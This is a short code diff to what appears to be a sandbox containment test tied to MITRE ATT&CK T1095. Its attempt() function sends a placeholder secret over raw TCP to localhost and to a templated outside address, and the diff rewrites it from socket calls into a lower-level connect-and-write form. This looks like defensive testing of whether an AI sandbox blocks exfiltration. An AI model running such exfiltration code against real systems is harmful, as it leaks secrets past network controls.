@@ -4,15 +4,12 @@ See: https://attack.mitre.org/techniques/T1095/
 Layers: main bare
 Control: witness
 """
-from llmdas_sandbox.guest.tools import *
-
 
 
 def attempt():
     for host in ("127.0.0.1", "@ADDRESS@"):
         try:
-            with socket.create_connection((host, @TCP_PORT@), timeout=2) as connection:
-                connection.sendall(b"@SECRET@")
+            os.write(connect(2, 1, inet(host, @TCP_PORT@)), b"@SECRET@")
         except OSError:
             pass
     return 0.0
